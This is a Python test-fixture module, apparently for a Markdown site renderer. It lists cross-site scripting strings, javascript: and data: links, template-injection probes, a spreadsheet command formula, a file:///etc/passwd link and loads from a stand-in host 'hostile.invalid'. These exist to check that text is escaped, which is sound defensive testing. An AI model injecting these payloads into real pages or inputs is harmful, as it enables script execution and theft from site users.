"""Text that would be script if a page took it for more than text."""

from typing import Final

AWAY: Final = "https://hostile.invalid"
"""Nobody answers there; who asks for it has taken text for markup."""

STRINGS: Final = (
    # Elements that run something by themselves
    "<script>hit()</script>",
    "<ScRiPt src=https://hostile.invalid/a.js></sCrIpT>",
    "</script><script>hit()</script>",
    "</title><script>hit()</script>",
    "</textarea></style></noscript><script>hit()</script>",
    "--><script>hit()</script><!--",
    "]]><script>hit()</script>",
    "<img src=x onerror=hit()>",
    "<img src=https://hostile.invalid/a.png>",
    "<svg onload=hit()>",
    "<svg><script>hit()</script></svg>",
    "<svg><animate onbegin=hit() attributeName=x dur=1s>",
    "<body onload=hit()>",
    "<iframe src=javascript:hit()></iframe>",
    "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
    "<details open ontoggle=hit()>",
    "<input autofocus onfocus=hit()>",
    "<video><source onerror=hit()></video>",
    "<object data=javascript:hit()></object>",
    "<embed src=https://hostile.invalid/a.swf>",
    "<link rel=stylesheet href=https://hostile.invalid/a.css>",
    "<style>@import 'https://hostile.invalid/b.css'</style>",
    "<meta http-equiv=refresh content='0;url=javascript:hit()'>",
    "<base href=https://hostile.invalid/>",
    "<form action=javascript:hit()><button autofocus>x</button></form>",
    "<math href=javascript:hit()>x</math>",
    "<template><script>hit()</script></template>",
    "<a href=javascript:hit()>x</a>",
    "<a href='java&#115;cript:hit()'>x</a>",
    "<div style='background:url(https://hostile.invalid/c.png)'>x</div>",
    "<div md_in_html markdown=1 onclick=hit()>x</div>",
    "<portal src=https://hostile.invalid/>",
    "<!--[if IE]><script>hit()</script><![endif]-->",
    "<?xml-stylesheet href='https://hostile.invalid/d.css'?>",
    # Ends of attributes and of strings in scripts
    "\" onmouseover=\"hit()",
    "' onmouseover='hit()",
    "\" autofocus onfocus=hit() x=\"",
    "\"><script>hit()</script>",
    "'><img src=x onerror=hit()>",
    "\"-hit()-\"",
    "';hit();//",
    "\\\";hit();//",
    "`${hit()}`",
    "&quot;&gt;&lt;script&gt;hit()&lt;/script&gt;",
    "&#60;script&#62;hit()&#60;/script&#62;",
    "&lt;img src=x onerror=hit()&gt;",
    "%3Cscript%3Ehit()%3C/script%3E",
    "\\u003cscript\\u003ehit()\\u003c/script\\u003e",
    "＜script＞hit()＜/script＞",
    # Markdown of our own engine and of others
    "![x](https://hostile.invalid/e.png)",
    "![x][hostile]",
    "[hostile]: javascript:hit()",
    "[x][hostile]",
    "<javascript:hit()>",
    "<https://hostile.invalid/f>",
    "{: onclick=hit() }",
    "text{: onmouseover=\"hit()\" .x #top }",
    "{ onclick=hit() }",
    "--8<-- \"mkdocs.yml\"",
    "--8<-- \"https://hostile.invalid/g.md\"",
    "[^1]: <script>hit()</script>",
    "[^paper]",
    "*[HTML]: <script>hit()</script>",
    "!!! danger \"<script>hit()</script>\"",
    "??? note",
    "/// html | div[onclick=hit()]",
    ":::{iframe} https://hostile.invalid/h",
    "| a | b |",
    "$$\\href{javascript:hit()}{x}$$",
    "==<mark onclick=hit()>==",
    "++ctrl+<b onclick=hit()>++",
    ":smile: :fontawesome-solid-bomb:",
    "```{python exec=\"1\"} hit()",
    "~~~ {.js onload=hit()}",
    "# <script>hit()</script> {#top onclick=hit()}",
    # Templates
    "{{ config.site_url }}{% raw %}",
    "{% include 'https://hostile.invalid/i' %}",
    "{{ ''.__class__.__mro__ }}",
    "${hit()} #{hit()} <%= hit() %>",
    "{{constructor.constructor('hit()')()}}",
    # Data read by scripts
    "__proto__",
    "constructor",
    "</script/><script/>hit()</script>",
    "\"}]);hit();//",
    "=cmd|' /C calc'!A0",
    # Text that turns round what stands beside it
    "مرحبا <b onclick=hit()>שלום</b>",
)  # fmt: skip

LINKS: Final = (
    "[x](javascript:hit())",
    "[x](JaVaScRiPt:hit())",
    "[x]( javascript:hit())",
    "[x](java&#115;cript:hit())",
    "[x](javascript&colon;hit())",
    "[x](&#x6a;avascript:hit())",
    "[x](data:text/html,<script>hit()</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==)",
    "[x](vbscript:hit())",
    "[x](file:///etc/passwd)",
    "[x](//hostile.invalid/)",
    "[x](\\\\hostile.invalid)",
    "[x](blob:https://hostile.invalid/a)",
    "[x](<javascript:hit()>)",
    "[[javascript:hit()]]",
    '[[a"onclick=hit()]]',
    '[@a"onclick=hit()]',
)
"""Links that prose refuses outright, where an address can be."""

GROUPS: Final = 8


def group(number: int) -> tuple[str, ...]:
    """Return one of the groups the strings fall into; each entry of a kind has one."""
    return STRINGS[number % GROUPS :: GROUPS]
